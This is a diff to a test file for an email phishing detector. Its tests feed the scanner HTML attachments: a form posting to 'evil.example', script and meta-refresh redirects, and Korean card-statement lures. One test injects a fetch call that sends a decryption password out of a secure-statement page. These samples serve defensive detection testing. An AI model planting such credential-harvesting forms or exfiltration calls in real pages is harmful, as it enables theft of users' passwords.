@@ -12,7 +12,7 @@ from app.policy.signal_scores import SIGNAL_SCORES
 from app.policy.signals import message_signals
 from app.scan.documents import document_findings
 
-from tests.support.documents import ole, ooxml
+from tests.support.documents import HARVESTER, SECURE_STATEMENT, ole, ooxml
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
@@ -53,11 +53,46 @@ def test_html_attachments_with_forms_scripts_or_redirects():
     assert kinds("결제내역.html", login, "text/html") == ["html-form"]
     [finding] = document_findings([Attachment("결제내역.html", "text/html", len(login), login)])
     assert "password field" in finding.reason
-    assert kinds("a.htm", b"<form method=post><input type=text></form>") == ["html-form"]
+    assert kinds("a.htm", b'<form method=post action="//evil.example/p"><input type=text></form>') == ["html-form"]
+    assert kinds("a.htm", b"<form method=post><input type=text></form>") == []  # submits to nowhere
     assert kinds("b.html", b"<script>location='https://evil.example'</script>") == ["html-script"]
     assert kinds("c.html", b'<meta http-equiv="refresh" content="0;url=https://evil.example">') == ["html-script"]
     assert kinds("d", b"<p>Invoice attached</p>", "text/html") == []
     assert kinds("notes.txt", b"<form>") == []
+
+
+def page_signals(name: str, page: str, *, sender: str, text: str) -> dict:
+    """The signals of a message from `sender` saying `text` with the web page `page` attached as `name`."""
+    encoded = base64.b64encode(page.encode()).decode()
+    body = (
+        f"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
+        f'--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename="{name}"\r\n'
+        f"Content-Transfer-Encoding: base64\r\n\r\n{encoded}\r\n--b--\r\n"
+    )
+    raw = (
+        f"From: <{sender}>\r\nSubject: 12월 이용대금 명세서\r\nMIME-Version: 1.0\r\n"
+        f"Content-Type: multipart/mixed; boundary=b\r\n\r\n{body}"
+    ).encode()
+    return {hit.name: hit for hit in message_signals(decode_message(raw)).hits}
+
+
+def test_a_secure_statement_that_decrypts_in_the_browser_is_no_harvester_and_no_lure_target():
+    text = "첨부된 보안메일을 열어 비밀번호(사업자등록번호 10자리)를 입력하면 명세서를 확인하실 수 있습니다."
+    found = page_signals("카드_12월_이용대금명세서.html", SECURE_STATEMENT, sender="statement@card.example", text=text)
+    assert "attachment-html-form" not in found
+    assert "attachment-html-script" not in found
+    assert "credential-lure" not in found
+
+
+def test_a_log_in_page_that_posts_elsewhere_keeps_its_strong_score():
+    text = "첨부된 파일을 열어 로그인 후 확인해 주세요."
+    found = page_signals("INV-2026-4471.html", HARVESTER, sender="billing@invoice-notice.example", text=text)
+    assert found["attachment-html-form"].score == SIGNAL_SCORES["attachment-html-form"] == 10.0
+    assert found["attachment-html-form"].snippet == "INV-2026-4471.html"
+    assert found["credential-lure"].snippet.endswith("-> INV-2026-4471.html")
+    # the same page sealed like a statement but sending the password out is still a harvester
+    sealed = SECURE_STATEMENT.replace("decrypt(atob(sealed),key);", "decrypt(atob(sealed),key);fetch(u,{body:key});")
+    assert kinds("명세서.html", sealed.encode()) == ["html-form"]
 
 
 def mime(html: str | None = None, text: str | None = None, image: bool = False) -> bytes:
